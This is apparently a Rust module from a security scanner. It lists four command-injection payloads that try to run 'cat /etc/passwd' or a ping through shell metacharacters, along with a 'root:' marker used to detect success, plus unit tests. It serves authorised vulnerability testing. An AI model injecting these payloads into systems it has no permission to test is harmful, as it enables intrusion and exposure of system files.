//! Command-injection payloads used by the scanner

/// Payloads in the order they are tried.
pub const PAYLOADS: [&str; 4] = [
    ";cat /etc/passwd;",
    "|cat /etc/passwd|",
    "`cat /etc/passwd`",
    "||ping+-c+10+127.0.0.1||",
];

/// Substring of `/etc/passwd` that proves a payload ran.
pub const MARKER: &str = "root:";

/// Owned copy of the payload list, as reported in scan results.
pub fn payload_list() -> Vec<String> {
    PAYLOADS.iter().map(|p| p.to_string()).collect()
}

pub fn contains_marker(body: &[u8]) -> bool {
    body.windows(MARKER.len()).any(|w| w == MARKER.as_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payload_order_is_fixed() {
        assert_eq!(payload_list()[0], ";cat /etc/passwd;");
        assert_eq!(payload_list()[3], "||ping+-c+10+127.0.0.1||");
    }

    #[test]
    fn marker_detection() {
        assert!(contains_marker(b"root:x:0:0:root:/root:/bin/bash"));
        assert!(!contains_marker(b"ROOT: nothing"));
        assert!(!contains_marker(b""));
    }
}
